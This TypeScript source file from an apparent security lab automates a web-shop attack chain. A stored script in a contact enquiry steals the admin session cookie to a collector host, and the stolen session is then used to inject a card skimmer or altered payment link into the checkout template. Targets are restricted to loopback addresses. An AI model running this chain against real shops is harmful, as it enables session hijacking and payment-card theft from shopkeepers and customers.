/**
 * The known attack on small shops (LEAK-04), step by step: a script in an enquiry, the shopkeeper's session, an altered
 * checkout. Every step goes through the shop's public pages; only the shopkeeper is played by the lab.
 */
import type { Channel, Encoding } from '../collector/encodings.ts';
import type { Collector } from '../collector/serve-collector.ts';
import { requireLoopback } from '../loopback/address.ts';
import { request } from '../loopback/request.ts';
import { ADMIN_COOKIE, type Admin } from '../shop/admin-routes.ts';
import type { Variant } from '../shop/state.ts';
import type { LabEvent } from '../surroundings.ts';
import { alteredLink, type LinkAttack, withoutLinkAttacks } from './link-attacks.ts';
import { type AdminBrowser, lookAsAdmin } from './look-as-admin.ts';
import { sessionThief, skimmer } from './scripts.ts';

export const PLACEMENTS = ['inline', 'external'] as const;

export type AttackOrder = {
  /** `js`: a skimmer on the checkout page. `link`: the page that leads to the provider is altered as `page` says. */
  readonly variant: Variant;
  readonly page: LinkAttack;
  readonly channel: Channel;
  readonly encoding: Encoding;
  /** Where the skimmer stands: in the page, or in a file of the collector that the page loads. */
  readonly placement: (typeof PLACEMENTS)[number];
};

export type Target = {
  /** Origin. */
  readonly shop: string;
  readonly admin: Admin;
  readonly collector: Collector;
  readonly browser: AdminBrowser | undefined;
  readonly report: (event: LabEvent) => void;
};

export type Attacked =
  | { readonly outcome: 'succeeded' }
  | { readonly outcome: 'failed'; readonly at: 'session-taken' | 'checkout-altered' };

/** @throws NotLoopback when the shop or the collector is not of this machine. */
export const attack = async (target: Target, order: AttackOrder): Promise<Attacked> => {
  const { shop, admin, collector, browser, report } = target;
  requireLoopback(shop);
  const step = (name: string, detail: Readonly<Record<string, unknown>> = {}): void =>
    report({ event: 'attack-step', step: name, ...detail });

  collector.takeCookies();
  const body = `ギフト包装について教えてください。<script>${sessionThief(collector.origin)}</script>`;
  await request(`${shop}/contact`, { body: { name: '佐藤', email: 'sato@example.jp', body } });
  step('script-left', { page: `${shop}/contact` });

  step('admin-looked', { page: `${shop}/admin/enquiries`, ...(await lookAsAdmin({ shop, admin, browser })) });

  const session = sessionIn(collector.takeCookies());
  if (session === undefined) return { outcome: 'failed', at: 'session-taken' };
  step('session-taken', { sentTo: collector.origin });

  const altered = await alterCheckout(target, order, session);
  if (!altered) return { outcome: 'failed', at: 'checkout-altered' };
  step('checkout-altered', { ...order, page: order.variant === 'js' ? `${shop}/checkout` : `${shop}/checkout/link` });
  return { outcome: 'succeeded' };
};

const sessionIn = (cookies: string | undefined): string | undefined =>
  new RegExp(`${ADMIN_COOKIE}=(\\w+)`).exec(cookies ?? '')?.[1];

const alterCheckout = async ({ shop, collector }: Target, order: AttackOrder, session: string): Promise<boolean> => {
  const address = `${shop}/admin/pages/${order.variant}`;
  const headers = { cookie: `${ADMIN_COOKIE}=${session}` };
  const form = await request(address, { headers });
  const formToken = /name="formToken" value="(\w+)"/.exec(form.text)?.[1];
  const template = /<textarea[^>]*>\n([\s\S]*?)<\/textarea>/.exec(form.text)?.[1];
  if (formToken === undefined || template === undefined) return false;
  const script = skimmer({ ...order, collector: collector.origin });
  collector.prepare({ encoding: order.encoding, script });
  const clean = withoutOurs(unescapeHtml(template), collector.origin);
  const ours =
    order.placement === 'inline'
      ? `<script>${script}</script>`
      : `<script src="${collector.origin}/stats.js"></script>`;
  const changed =
    order.variant === 'js' ? `${clean.trimEnd()}\n${ours}\n` : alteredLink(clean, order.page, collector.origin);
  const saved = await request(address, { headers, body: { formToken, template: changed } });
  return saved.status === 303 && changed !== clean;
};

/** An earlier attack of ours is replaced, not doubled. */
const withoutOurs = (template: string, collector: string): string =>
  withoutLinkAttacks(template, collector).replaceAll(/\n<script\b[^>]*>[\s\S]*?<\/script>/g, (script) =>
    script.includes(collector) ? '' : script,
  );

const unescapeHtml = (text: string): string =>
  text
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&');
